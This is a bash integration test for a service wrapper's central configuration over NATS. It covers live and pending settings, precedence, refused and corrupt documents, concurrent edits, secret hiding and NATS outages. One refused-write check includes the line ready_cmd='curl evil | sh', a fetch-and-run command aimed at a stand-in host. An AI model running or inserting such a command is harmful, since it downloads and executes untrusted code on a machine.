#!/bin/bash
# Central settings reach running instances at once and without a restart, as far as they can; the rest is
# pending until one.  Options, variables and files are stronger.  What is refused, unreadable or gone is told and
# changes nothing it should not; NATS may come, go and forget.
. "$(dirname "$0")/../support/lib.sh"
. "$(dirname "$0")/../support/wrap.sh"
. "$(dirname "$0")/../support/outgoing.sh"
nats_start
unset LOG_LEVEL		# it would be stronger than what is set centrally

# settings INSTANCE: what it answers when asked over NATS, in $T/answer.
settings() {
	bus request "aegis.ctl.shop.$1.settings" '' >"$T/asked" && js 'm.json' "$T/asked" >"$T/answer"
}
# now INSTANCE EXPECTED EXPRESSION: of that answer; in it s(KEY) is a setting.
now() {
	settings "$1" && [ "$(js "((s) => ($3))((k) => m.settings.find((x) => x.key === k))" "$T/answer")" = "$2" ]
}
set_shop() {
	code 0 "$AEGIS" config set --service shop "$@"
}
beats() {
	grep -c "internal.heartbeat.shop" "$T/beats.out" || :
}
cat >"$T/app.mjs" <<-'J'
	import { appendFileSync, existsSync, readFileSync } from "node:fs";
	import { createInterface } from "node:readline";
	const own = () => readFileSync(process.env.AEGIS_CONFIG_FILE, "utf8").trim();
	appendFileSync(process.env.APP_LOG, `start ${own()}\n`);
	process.on("SIGUSR2", () => appendFileSync(process.env.APP_LOG, `changed ${own()}\n`));
	for await (const line of createInterface({ input: process.stdin })) {
		const q = JSON.parse(line);
		if (q.kind !== "rpc") continue;
		const answer = () => existsSync(q.params?.file ?? "/") ? console.log(JSON.stringify({ id: q.id, result: own() })) : setTimeout(answer, 20);
		answer();
	}
J
shop() {
	wrap "$1" --name shop --instance-id "$1" --app-stdio --config-signal USR2 "${@:2}" -- node "$T/app.mjs"
	until_true 10 registered shop "$1" ACTIVE
}

# Without a document: defaults, and an answer that says so.  No bucket was made for that.
listen beats 'internal.heartbeat.shop'
shop a
until_true 10 now a '[null,null,null,[],"10s","default"]' \
    '[m.revision, m.applied_revision, m.refused, m.pending, s("heartbeat_interval").value, s("heartbeat_interval").origin]'
until_true 10 test -s "$APP_LOG"
[ "$(cat "$APP_LOG")" = "start {}" ] || fail "the program found $(cat "$APP_LOG")"
first=$(child a)

# What can change does, at once and in the same program; what cannot is pending.
set_shop heartbeat_interval=500ms log_level=debug max_inflight=1 max_queue=1 rpc_timeout=300ms restart=always workload.pool=20 'workload.mode=fast & loose'
until_true 1 now a '["central","500ms","debug",1,["restart"],"no","always",false]' \
    '[s("heartbeat_interval").origin, s("heartbeat_interval").value, s("log_level").value, s("max_inflight").value, m.pending, s("restart").value, s("restart").wanted, s("restart").live]'
now a '[1,1,20]' '[m.revision, m.applied_revision, s("workload.pool").value]' || fail "$(cat "$T/answer")"
until_true 10 log_has a '"event":"config.changed"'
until_true 10 log_has a 'waiting for a restart: restart'
until_true 5 grep -qF 'changed {"pool":20,"mode":"fast & loose"}' "$APP_LOG"
# debug: the log says now what it did not before; heartbeats come twice a second, in place of six a minute.
until_true 10 log_has a '"level":"DEBUG"'
n=$(beats)
until_true 10 eval '[ "$(beats)" -ge $((n + 4)) ]'
# One call runs, one waits, a third is refused.
refused=0
for i in 1 2 3; do
	spawn "slow$i" "$AEGIS" call shop slow "{\"file\": \"$T/go\"}" --retry-policy none --timeout 5m
done
one_ended() {
	for i in 1 2 3; do ! gone "$(cat "$T/slow$i.pid")" || return 0; done
	return 1
}
until_true 10 one_ended
touch "$T/go"
for i in 1 2 3; do
	end "slow$i" 0
	[ "$rc" -eq 0 ] || refused=$((refused * 10 + rc))
done
[ "$refused" -eq 8 ] || fail "of three calls, where one runs and one waits, $refused"
[ "$(child a)" = "$first" ] && ! gone "$first" || fail "the program was started anew"

# A new instance starts with all of it; an option is stronger, and a variable, and a file.
echo '{"run_service": {"max_queue": 7}}' >"$T/own.json"
AEGIS_MAX_INFLIGHT=5 shop b --heartbeat-interval 2s --config "$T/own.json"
until_true 5 now b '[[],"always","central","flag","2s","env",5,"file",7]' \
    '[m.pending, s("restart").value, s("restart").origin, s("heartbeat_interval").origin, s("heartbeat_interval").value, s("max_inflight").origin, s("max_inflight").value, s("max_queue").origin, s("max_queue").value]'
until_true 10 grep -qF 'start {"pool":20' "$APP_LOG"
set_shop heartbeat_interval=1s max_inflight=3
until_true 2 now a 1s 's("heartbeat_interval").value'
until_true 2 now b '["2s",5,2]' '[s("heartbeat_interval").value, s("max_inflight").value, m.applied_revision]'
# A restart makes what was pending count.
end a
shop a
until_true 5 now a '[[],"always"]' '[m.pending, s("restart").value]'

# Refused before it is stored: the culprit and the remedy; nothing changed.
code 2 "$AEGIS" config set --service shop heartbeat_interval=20s registry_ttl=10s
says stderr '--heartbeat-interval (20s) must be shorter than --registry-ttl (10s)'
code 2 "$AEGIS" config set --service shop max_inflght=3
says stderr "unknown key 'max_inflght'; did you mean 'max_inflight'?"
code 2 "$AEGIS" config set --service shop ready_cmd='curl evil | sh'
says stderr "'ready_cmd' belongs to one machine"
now a '2' 'm.revision' || fail "a refused write changed the document"

# Refused where it does not fit what one instance was told: that one keeps what runs, the other obeys.
end b
shop c --registry-ttl 11s --metrics-listen 127.0.0.1:0
set_shop heartbeat_interval=12s
until_true 2 now a 12s 's("heartbeat_interval").value'
until_true 2 now c '["1s",true]' '[s("heartbeat_interval").value, m.refused.includes("must be shorter than --registry-ttl (11s)")]'
until_true 10 log_has c '"event":"config.refused"'
metrics=$(sed -n 's/.*metrics at \(http[^" ]*\).*/\1/p' "$T/c.log")
refused_one() {
	curl -sS "$metrics" >"$T/metrics" && grep -q '^aegis_config_refused 1$' "$T/metrics"
}
until_true 10 refused_one
set_shop heartbeat_interval=2s
until_true 2 now c '["2s",null]' '[s("heartbeat_interval").value, m.refused]'

# Garbage by somebody else: the running configuration goes on, visibly; a terminal sees it, too, and repairs it.
node "$S/nats.mjs" put aegis_config shop 'no document' >"$T/rev"
garbage=$(cat "$T/rev")
until_true 2 now a "[$garbage,true,\"2s\"]" '[m.revision, m.refused.includes("cannot be read"), s("heartbeat_interval").value]'
code 1 "$AEGIS" config get --service shop
says stderr 'the document cannot be read'
code 1 "$AEGIS" config set --service shop max_queue=3
says stderr 'write it anew with --file or --revert, or remove it with'
end c
shop d		# starts all the same
until_true 5 now d '["default",true]' '[s("heartbeat_interval").origin, m.refused.includes("cannot be read")]'
code 0 "$AEGIS" config set --service shop --revert $((garbage - 1))
until_true 2 now d '["2s",null,["restart"]]' '[s("heartbeat_interval").value, m.refused, m.pending]'
end d

# Two editors: the second is told, and loses nothing.
code 0 "$AEGIS" config get --service shop --json
rev=$(js 'm.revision' "$T/stdout")
set_shop max_queue=9 --if-revision "$rev"
code 5 "$AEGIS" config set --service shop max_queue=10 --if-revision "$rev"
says stderr "not $rev; look at them with"
until_true 2 now a 9 's("max_queue").value'

# The program asks by its local API, secrets of its own included; others do not see those.
porter asker --name shop --instance-id asker
set_shop workload.db_password=hush
secret_there() {
	api asker /v1/config && grep -q '"db_password":"hush"' "$T/body"
}
until_true 2 secret_there
until_true 2 now asker '[null,true]' '[s("workload.db_password").value, s("workload.db_password").secret]'
! grep -q hush "$T/asked" || fail "a secret was told"
end asker

# NATS away: all goes on; what was changed before the others are back is found.  Starting without NATS works as well.
end nats KILL
shop_alone() {
	wrap alone --name shop --instance-id alone --app-stdio -- node "$T/app.mjs"
	until_true 10 log_has alone 'runs as process'
}
shop_alone
nats_again
until_true 20 now alone '["2s",["restart"]]' '[s("heartbeat_interval").value, m.pending]'
set_shop heartbeat_interval=3s
until_true 10 now a 3s 's("heartbeat_interval").value'
end alone

# Removed: back to what it was told otherwise.
code 0 "$AEGIS" config rm --service shop --yes
until_true 2 now a '["10s","default",["restart"],null]' '[s("heartbeat_interval").value, s("heartbeat_interval").origin, m.pending, m.refused]'
until_true 5 grep -qx 'changed {}' "$APP_LOG"

# Thousands may follow without a consumer: there is none.
[ "$(node "$S/nats.mjs" consumers KV_aegis_config)" = 0 ] || fail "there are consumers on the bucket"
# Nothing is left behind, not even by a wrapper that was killed, once the next one starts.
end a KILL
shop e
end e
! compgen -G "$XDG_RUNTIME_DIR/aegis-config-*" >"$T/left" || fail "left behind: $(cat "$T/left")"
